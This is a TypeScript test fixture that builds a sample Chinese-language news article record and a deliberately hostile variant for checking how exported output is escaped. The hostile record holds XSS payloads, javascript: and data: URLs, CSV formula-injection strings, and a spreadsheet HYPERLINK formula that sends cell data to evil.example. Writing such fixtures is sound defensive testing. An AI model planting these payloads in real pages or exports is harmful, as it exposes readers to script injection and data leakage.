import { articleSchema, type Article } from '../../../src/domain/article.js';

const HASH = `sha256:${'0'.repeat(64)}`;

/** A whole record; what is not named is ordinary. */
export function sampleArticle(changes: Partial<Article> = {}, number = 1049499304): Article {
  const id = `sputniknews.cn/${number}`;
  return articleSchema.parse({
    schemaVersion: 2,
    id,
    url: `https://sputniknews.cn/20230412/${number}.html`,
    aliases: [],
    edition: 'sputniknews.cn',
    family: 'sputniknews.cn',
    language: 'zh-Hans',
    title: '三个检查站将重新开放',
    lead: '代表团讨论了开放时间。',
    body: [
      { type: 'heading', text: '背景' },
      { type: 'text', text: '第一段。' },
      { type: 'quote', text: '我们准备好了。' },
      { type: 'list', text: '粮食\n化肥' },
    ],
    dateline: null,
    publishedAt: '2023-04-12T11:40:00Z',
    modifiedAt: null,
    tags: [{ name: '亚美尼亚', url: 'https://sputniknews.cn/geo_yameiniya/', kind: 'geo' }],
    topics: ['armenia'],
    section: null,
    authors: [],
    format: 'text',
    images: [],
    related: [],
    copyrightHolder: null,
    contentHash: HASH,
    renditions: [],
    revisions: [],
    duplicates: [],
    duplicateOf: null,
    goneAt: null,
    firstSeenAt: '2023-04-12T12:00:00Z',
    lastSeenAt: '2023-04-12T12:00:00Z',
    capture: null,
    provenance: {},
    extractor: { name: 'sputnik-2021', version: '1' },
    ...changes,
  });
}

/** What somebody writes who wants to reach the reader's machine through the corpus. */
export const HOSTILE: Article = sampleArticle(
  {
    title: '=HYPERLINK("http://evil.example/?"&A1;"</title><script>alert(1)</script>")',
    lead: '@SUM(1;2)\r\n"quoted", <b>bold</b> & ]]> \u0000\u001b[31m',
    body: [
      { type: 'text', text: '<img src=x onerror=alert(1)>' },
      { type: 'heading', text: '</h2><iframe src="//evil.example">' },
      { type: 'list', text: '<li>one\n--> two' },
      { type: 'quote', text: "'already guarded' \ud800 half" },
    ],
    tags: [
      { name: '"><svg onload=alert(1)>', url: 'javascript:alert(1)', kind: null },
      { name: '＝１＋１', url: 'data:text/html,<script>', kind: null },
    ],
    authors: ['-2+3', "O'Neil"],
    section: '\tcmd',
    copyrightHolder: '+49',
    dateline: "'",
    images: [{ url: 'javascript:alert(2)', caption: '<script>', credit: null }],
    related: [{ url: ' javascript:alert(3)', title: '<script>alert(3)</script>' }],
    aliases: ['javascript:alert(4)'],
    publishedAt: null,
  },
  1049499305,
);
